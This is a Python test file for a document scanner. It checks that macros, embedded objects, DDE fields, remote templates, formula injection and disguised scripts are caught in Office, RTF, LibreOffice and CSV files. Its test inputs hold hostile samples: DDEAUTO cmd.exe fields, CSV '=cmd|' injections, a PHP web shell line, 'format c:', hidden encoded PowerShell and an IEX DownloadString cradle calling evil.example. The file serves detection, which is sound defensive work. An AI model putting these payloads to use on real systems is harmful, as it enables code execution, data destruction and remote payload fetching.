"""Office 97, RTF, LibreOffice and lines of values: what acts, fetches or conceals is found; the ordinary is no alarm."""

import struct
from pathlib import Path

import pytest

from syncd.model.document import FaultKind
from tests.memo import ole_file
from tests.memo.office_files import faults, packed, read

MACROS, ACTIVE, LINKED = FaultKind.MACROS, FaultKind.ACTIVE, FaultKind.LINKED
CONCEALED, ENCRYPTED = FaultKind.CONCEALED, FaultKind.ENCRYPTED


def ole(tmp_path: Path, **streams: bytes) -> bytes:
    named = {name.replace("__", "/").replace("_1_", "\x01").replace("_", " "): content for name, content in streams.items()}
    return ole_file.write(tmp_path / "made", named).read_bytes()


# --- Excel 97 -------------------------------------------------------------------------------------------------------------


def records(*each: tuple[int, bytes]) -> bytes:
    start, end = (0x809, b"\0\x06\x05\0" + b"\0" * 12), (0x0A, b"")
    return b"".join(struct.pack("<HH", kind, len(data)) + data for kind, data in (start, *each, end))


def a_sheet(kind: int = 0, state: int = 0) -> tuple[int, bytes]:
    return 0x85, struct.pack("<LBBBB", 0, state, kind, 3, 0) + b"abc"


def a_name(flags: int, char: int) -> tuple[int, bytes]:
    return 0x18, struct.pack("<HBBHHHBBBB", flags, 0, 1, 0, 0, 0, 0, 0, 0, 0) + bytes([0, char])


def a_book(path: str) -> tuple[int, bytes]:
    return 0x1AE, struct.pack("<HHB", 1, len(path), 0) + path.encode("latin-1")


@pytest.mark.parametrize(
    ("content", "found"),
    [
        (records(a_sheet()), set()),
        (records(a_sheet(), a_sheet(kind=2)), set()),
        (records(a_sheet(kind=1)), {MACROS}),
        (records(a_sheet(kind=1, state=2)), {MACROS, CONCEALED}),
        (records(a_sheet(kind=6)), {MACROS}),
        (records(a_sheet(state=1)), {CONCEALED}),
        (records(a_sheet(state=2)), {CONCEALED}),
        (records(a_name(0x20, 1)), {MACROS}),
        (records(a_name(0x20, 2)), {MACROS}),
        (records(a_name(0x20, 6)), set()),
        (records(a_name(0x08, 65)), {MACROS}),
        (records(a_book("cmd\x03/c calc")), {ACTIVE}),
        (records(a_book("\x01\x04budget.xls")), {LINKED}),
        (records((0x1AE, b"\1\0\1\4")), set()),
        (records((0xDC, b"\0" * 12)), {LINKED}),
        (records((0x2F, b"\0" * 6)), {ENCRYPTED}),
    ],
)
def test_an_old_workbook_is_looked_through_record_by_record(tmp_path: Path, content: bytes, found: set[FaultKind]) -> None:
    assert faults(read(tmp_path, "a.xls", ole(tmp_path, Workbook=content))) == found


@pytest.mark.parametrize(
    ("streams", "found"),
    [
        ({"Macros__VBA": b"x"}, {MACROS}),
        ({"_VBA_PROJECT_CUR__VBA": b"x"}, {MACROS}),
        ({"MBD1__\x01Ole10Native": b"x"}, {ACTIVE}),
        ({"ObjectPool__Equation Native": b"x"}, {ACTIVE}),
        ({"MBD1__Ctls": b"x"}, {ACTIVE}),
        ({"Ctls": b"x"}, {ACTIVE}),
        ({"\x05SummaryInformation": b"x"}, set()),
    ],
)
def test_streams_of_macros_objects_and_controls_are_known(
    tmp_path: Path, streams: dict[str, bytes], found: set[FaultKind]
) -> None:
    named = {name.replace("__", "/"): content for name, content in streams.items()}
    content = ole_file.write(tmp_path / "made", {"Workbook": records(a_sheet())} | named).read_bytes()
    assert faults(read(tmp_path, "a.xls", content)) == found


@pytest.mark.parametrize(
    ("said", "found"),
    [
        (b'\x13 DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc" \x14x\x15', {ACTIVE}),
        (b'\x13 INCLUDETEXT "http://evil.example/a.doc" \x14x\x15', {ACTIVE}),
        (' DDE "cmd" "x" '.join(("\x13", "\x14")).encode("utf-16-le"), {ACTIVE}),
        (b'\x13 HYPERLINK "https://www.obec.go.th" \x14x\x15', set()),
        (b"\x13 PAGE \x141\x15", set()),
    ],
)
def test_fields_of_an_old_word_file_are_read(tmp_path: Path, said: bytes, found: set[FaultKind]) -> None:
    content = ole_file.write(tmp_path / "made", {"WordDocument": b"\xec\xa5" + b"\0" * 600 + said, "1Table": b"x"}).read_bytes()
    assert faults(read(tmp_path, "a.doc", content)) - {FaultKind.DAMAGED} == found


def record(kind: int, data: bytes, *, holds: bool = False) -> bytes:
    return struct.pack("<HHL", 0xF if holds else 0, kind, len(data)) + data


@pytest.mark.parametrize(
    ("content", "found"),
    [
        (record(0x03FF, record(0x0400, struct.pack("<LLL", 1, 1, 2)), holds=True), {MACROS}),
        (record(0x03FF, record(0x0400, struct.pack("<LLL", 1, 0, 2)), holds=True), set()),
        (record(0x0FF2, record(0x0FF3, struct.pack("<LLBB6x", 0, 0, 2, 0)), holds=True), {ACTIVE}),
        (record(0x0FF2, record(0x0FF3, struct.pack("<LLBB6x", 0, 0, 1, 0)), holds=True), {MACROS}),
        (record(0x0FF2, record(0x0FF3, struct.pack("<LLBB6x", 0, 0, 4, 0)), holds=True), set()),
        (record(0x0FBA, "file:///C:/a.exe".encode("utf-16-le")), {ACTIVE}),
        (record(0x0FBA, "https://www.obec.go.th".encode("utf-16-le")), set()),
        (record(0x03EE, record(0x03F9, struct.pack("<LLBBH4x", 0, 0, 0, 0, 4)), holds=True), {CONCEALED}),
    ],
)
def test_an_old_presentation_is_looked_through_record_by_record(tmp_path: Path, content: bytes, found: set[FaultKind]) -> None:
    made = ole_file.write(tmp_path / "made", {"PowerPoint Document": content}).read_bytes()
    assert faults(read(tmp_path, "a.ppt", made)) == found


# --- RTF ------------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("said", "found"),
    [
        (r"{\object\objemb{\*\objclass Package}{\*\objdata 0105000002}}", {ACTIVE}),
        (r"{\object\objautlink\objupdate{\*\objdata 01}}", {ACTIVE}),
        (r"{\obj" + "\r\n" + r"{\*\objdata 01}}", {ACTIVE}),
        (r"{\*\objdata\bin3 abc}", {ACTIVE}),
        (r"{\field{\*\fldinst DDEAUTO cmd x}{\fldrslt 1}}", {ACTIVE}),
        (r"{\field{\*\fldinst {\b D}{DEAU}TO cmd x}{\fldrslt 1}}", {ACTIVE}),
        (r"{\field{\*\fldinst \u68?\u68?\u69? cmd x}{\fldrslt 1}}", {ACTIVE}),
        (r'{\field{\*\fldinst INCLUDETEXT "http://evil.example/a"}{\fldrslt 1}}', {ACTIVE}),
        (r'{\field{\*\fldinst HYPERLINK "javascript:x"}{\fldrslt 1}}', {ACTIVE}),
        (r"{\*\template http://evil.example/a.dotm}", {ACTIVE}),
        (r"{\*\template \\\\10.0.0.9\\a.dotm}", {ACTIVE}),
        (r"{\*\template C:\\Users\\a\\normal.dot}", set()),
        (r'{\field{\*\fldinst HYPERLINK "https://www.obec.go.th/dde "}{\fldrslt 1}}', set()),
        (r"{\field{\*\fldinst PAGE}{\fldrslt 1}}{\pict\pngblip 89504e47}", set()),
    ],
)
def test_an_rtf_that_acts_or_fetches_is_found(tmp_path: Path, said: str, found: set[FaultKind]) -> None:
    for name in ("a.rtf", "a.doc"):
        content = (r"{\rtf1\ansi\ansicpg874 " + said + r"\'a1\par}").encode("latin-1")
        assert faults(read(tmp_path, name, content)) == found


# --- LibreOffice ----------------------------------------------------------------------------------------------------------


def odf(kind: str, body: str = "", more: dict[str, str] | None = None) -> bytes:
    text = f'<?xml version="1.0"?><office xmlns:x="x"><body>{body}</body></office>'
    return packed({"mimetype": f"application/vnd.oasis.opendocument.{kind}", "content.xml": text} | (more or {}))


@pytest.mark.parametrize(
    ("body", "more", "found"),
    [
        ("", {"Basic/Standard/Module1.xml": "<a/>"}, {MACROS}),
        ("", {"Scripts/python/a.py": "x"}, {MACROS, ACTIVE}),
        ("", {"Basic/script-lc.xml": '<!DOCTYPE a PUBLIC "x" "y"><a/>', "Basic/Standard/script-lb.xml": "<a/>"}, set()),
        ('<x:event-listener x:language="ooo:script" x:event-name="dom:load" x:href="vnd.sun.star.script:a"/>', {}, {MACROS}),
        ('<a x:href="vnd.sun.star.script:a"/>', {}, {MACROS}),
        ('<a x:href="macro:///Standard.Module1.Main"/>', {}, {MACROS}),
        ('<a x:href="javascript:alert(1)"/>', {}, {ACTIVE}),
        ('<a x:href="file:///C:/Windows/calc.exe"/>', {}, {ACTIVE}),
        ('<a x:href="https://www.obec.go.th"/>', {}, set()),
        ('<a x:href="smb://10.0.0.9/a"/>', {}, {LINKED}),
        ('<x:image x:href="https://t.example/p.png"/>', {}, {LINKED}),
        ('<x:image x:href="Pictures/1.png"/>', {}, set()),
        ('<x:object-ole x:href="./Object 1"/>', {}, {ACTIVE}),
        ('<x:object x:href="./Object 1"/>', {}, set()),
        ('<x:object x:href="../a.ods"/>', {}, {LINKED}),
        ('<x:plugin x:href="a.swf"/>', {}, {ACTIVE}),
        ('<x:floating-frame x:href="http://evil.example"/>', {}, {ACTIVE}),
        ('<x:dde-source x:dde-application="cmd"/>', {}, {ACTIVE}),
        ('<x:section-source x:href="http://evil.example/a.odt"/>', {}, {ACTIVE}),
        ('<x:section-source x:href="../a.odt"/>', {}, {LINKED}),
        ('<x:table-cell x:formula="of:=DDE(&quot;cmd&quot;;&quot;/c&quot;;&quot;x&quot;)"/>', {}, {ACTIVE}),
        ('<x:table-cell x:formula="of:=WEBSERVICE(&quot;http://e.example&quot;)"/>', {}, {LINKED}),
        ("<x:table-cell x:formula=\"of:=['file:///c:/a.ods'#$S.A1]\"/>", {}, {LINKED}),
        ('<x:table-cell x:formula="of:=SUM([.A1:.A3])"/>', {}, set()),
        ("<x:deletion/>", {}, {CONCEALED}),
        ("<x:annotation/>", {}, {CONCEALED}),
        ('<x:table-row x:visibility="collapse"/>', {}, {CONCEALED}),
        ('<x:table-properties x:display="false"/>', {}, {CONCEALED}),
        ("", {"Configurations2/accelerator/current.xml": ""}, set()),
        ('<x:header-left x:display="false"/><x:text x:display="false"/>', {}, set()),
        ("", {"META-INF/manifest.xml": "<m><encryption-data/></m>"}, {ENCRYPTED}),
    ],
)
def test_a_file_of_libreoffice_is_looked_through(tmp_path: Path, body: str, more: dict[str, str], found: set[FaultKind]) -> None:
    for name, kind in (("a.odt", "text"), ("a.ods", "spreadsheet"), ("a.odp", "presentation")):
        assert faults(read(tmp_path, name, odf(kind, body, more))) == found


# --- lines of values ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("said", "found"),
    [
        ("ชื่อ,=cmd|' /C calc'!A0", {ACTIVE}),
        ("ชื่อ;+cmd|'/C calc'!A0", {ACTIVE}),
        ("ชื่อ\t@SUM(1+1)*cmd|' /C calc'!A0", {ACTIVE}),
        ("-2+3+cmd|' /C calc'!A0", {ACTIVE}),
        ("\"=MSEXCEL|'\\..\\..\\cmd.exe /c calc'!A0\"", {ACTIVE}),
        ('=HYPERLINK("http://evil.example?"&A1,"ดู")', {LINKED}),
        ('a,=IMPORTXML("http://evil.example","//a")', {LINKED}),
        ('ID;PWXL;N;E\nC;X1;Y1;K0;EEXEC("calc")', {FaultKind.FORBIDDEN_TYPE}),
        ('ชื่อ,="0441234567",-5,+66,@ชื่อ,ก|ข!', set()),
        ("ID,Name\n1,ก", set()),
        ("- ข้อ ๑ (ก|ข) ดีมาก!", set()),
        ("=SUM(A1:A9)", set()),
    ],
)
def test_lines_that_excel_takes_for_commands_are_found(tmp_path: Path, said: str, found: set[FaultKind]) -> None:
    assert faults(read(tmp_path, "a.csv", said.encode())) == found


# --- scripts under the names of texts -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "said",
    [
        "ประกาศ\n" * 3000 + "<?php system($_GET[0]);",
        "ประกาศ\n" * 3000 + "<script src=x>",
        'Set s = CreateObject("WScript.Shell")\ns.Run "calc"',
        "new ActiveXObject('WScript.Shell').Run('calc')",
        "@echo off\r\nformat c:",
        "REM ก\r\n@ECHO OFF\r\ncalc",
        "powershell.exe -nop -w hidden -enc AAAA",
        "IEX (New-Object Net.WebClient).DownloadString('http://evil.example')",
        "Windows Registry Editor Version 5.00\r\n",
        "[InternetShortcut]\r\nURL=file://evil.example/a",
        "%!PS-Adobe-3.0\n(x) run",
    ],
)
def test_a_script_is_refused_under_the_name_of_a_text(tmp_path: Path, said: str) -> None:
    for name in ("a.txt", "a.csv"):
        assert FaultKind.FORBIDDEN_TYPE in faults(read(tmp_path, name, said.encode()))


@pytest.mark.parametrize(
    "said",
    [
        "การใช้งาน PowerShell เบื้องต้น (หลักสูตรอบรม)",
        "หัวข้อ: script การแสดง, echo เสียงสะท้อน",
        "1. php 2. java 3. python",
        "ดู <https://www.obec.go.th>",
    ],
)
def test_a_text_about_computers_is_no_script(tmp_path: Path, said: str) -> None:
    assert faults(read(tmp_path, "a.txt", said.encode())) == set()


def test_an_old_presentation_with_a_password_is_encrypted(tmp_path: Path) -> None:
    for token, found in ((0xF3D1C4DF, {ENCRYPTED}), (0xE391C05F, set())):
        user = struct.pack("<LHHLL", 0x0FF60000, 20, 0, 20, token)
        made = ole_file.write(tmp_path / "made", {"PowerPoint Document": b"", "Current User": user}).read_bytes()
        assert faults(read(tmp_path, "a.ppt", made)) == found
